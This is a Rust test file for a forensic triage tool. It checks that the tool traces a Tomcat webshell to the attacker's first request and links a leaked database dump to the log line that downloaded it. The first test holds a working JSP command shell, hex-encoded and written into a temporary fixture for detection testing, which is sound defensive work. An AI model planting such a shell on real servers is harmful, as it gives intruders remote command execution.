//! The web story end to end: a webshell found by the scan, the access log naming who used it
//! first (the storyline's entry point), and a dump linked to the request that took it.

mod support;

use firewarden_model::{Severity, Timestamp};
use firewarden_source::FsSource;
use firewarden_triage::TriageOptions;
use std::path::Path;
use support::*;

fn triage(dir: &Path, only: &[&str]) -> firewarden_model::TriageReport {
    let src = FsSource::root(dir).unwrap();
    let opts = TriageOptions {
        only: only.iter().map(|s| s.to_string()).collect(),
        ..TriageOptions::default()
    };
    firewarden_triage::run(&src, &opts, &|_| {})
}

#[test]
fn real_tomcat_log_gives_the_webshells_first_use_as_entry_point() {
    let log = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/data/evtx-attack-samples/Command and Control/web_attack_and_isp_webshell_localhost_access_log.txt");
    if !log.exists() {
        eprintln!("skipped: {} is absent", log.display());
        return;
    }
    // A JSP command shell where the attack put it, and the real Tomcat access log beside it
    // (copied into the throwaway root at run time, never into the project).
    let jsp = unhex(
        "3c252052756e74696d652e67657452756e74696d6528292e657865632872657175657374\
                     2e676574506172616d657465722822636d642229293b20253e",
    );
    let dir = build(vec![
        file(
            "/var/lib/tomcat9/conf/server.xml",
            "<Host name=\"localhost\" appBase=\"webapps\">",
        ),
        file("/var/lib/tomcat9/webapps/ROOT/error/cmd.jsp", &jsp),
        file(
            "/var/lib/tomcat9/webapps/ROOT/index.jsp",
            "<html>hello</html>",
        ),
    ]);
    std::fs::create_dir_all(dir.path().join("var/log/tomcat9")).unwrap();
    std::fs::copy(
        &log,
        dir.path()
            .join("var/log/tomcat9/localhost_access_log.2018-07-11.txt"),
    )
    .unwrap();
    let r = triage(dir.path(), &["linux.web"]);
    let first = r
        .findings
        .iter()
        .find(|f| f.check == "linux.web.access" && f.title.starts_with("Webshell"))
        .expect("no webshell use found");
    assert_eq!(first.time, Timestamp::parse("2018-07-11T11:51:53Z"));
    assert!(first.title.contains("192.168.105.76"), "{}", first.title);
    let entry = r.storyline.entry_point.as_deref().unwrap();
    assert!(
        entry.contains("/error/cmd.jsp") && entry.contains("192.168.105.76"),
        "{entry}"
    );
    assert!(
        r.storyline
            .attacker_ips
            .iter()
            .any(|ip| ip == "192.168.105.76")
    );
    // The same log holds a scan with attack payloads from other addresses.
    assert!(
        r.findings
            .iter()
            .any(|f| f.check == "linux.web.access" && !f.title.starts_with("Webshell")),
        "{:#?}",
        r.findings.iter().map(|f| &f.title).collect::<Vec<_>>()
    );
    assert!(
        r.timeline
            .iter()
            .any(|e| e.summary.starts_with("first request to webshell"))
    );
}

#[test]
fn a_dump_is_linked_to_the_request_that_downloaded_it() {
    let mut dump = String::from(
        "-- MySQL dump 10.13  Distrib 8.0.35, for Linux (x86_64)\n-- Server version\t8.0.35\n",
    );
    while dump.len() < 200_000 {
        dump.push_str("INSERT INTO `users` VALUES (1,'alice','$2y$10$abcdefghijklmnopqrstuv','alice@example.com');\n");
    }
    let size = dump.len();
    let log = format!(
        "198.51.100.4 - - [20/Nov/2026:02:00:00 +0000] \"GET / HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n\
         203.0.113.66 - - [20/Nov/2026:03:20:41 +0000] \"GET /uploads/db_20261120.sql HTTP/1.1\" 200 {} \"-\" \"Wget/1.21\"\n\
         203.0.113.99 - - [20/Nov/2026:03:25:00 +0000] \"GET /uploads/db_20261120.sql HTTP/1.1\" 404 153 \"-\" \"curl/8\"\n",
        size
    );
    let dir = build(vec![
        Item::File(
            "/var/www/html/uploads/db_20261120.sql",
            dump.into_bytes(),
            0o644,
        ),
        file("/var/log/nginx/access.log", &log),
        file(
            "/etc/nginx/sites-enabled/default",
            "server { root /var/www/html; access_log /var/log/nginx/access.log; }\n",
        ),
    ]);
    let r = triage(dir.path(), &["linux.web.dump"]);
    let f = r
        .findings
        .iter()
        .find(|f| f.check == "linux.web.dump")
        .expect("dump not found");
    assert_eq!(f.severity, Severity::Critical);
    assert!(f.title.contains("203.0.113.66"), "{}", f.title);
    assert!(
        !f.explanation.contains("203.0.113.99"),
        "a 404 is not a download"
    );
    assert_eq!(f.time, Timestamp::parse("2026-11-20T03:20:41Z"));
    assert!(f.evidence.iter().any(|e| {
        e.path
            .as_deref()
            .is_some_and(|p| p.starts_with("/var/log/nginx/access.log:2"))
    }));
}
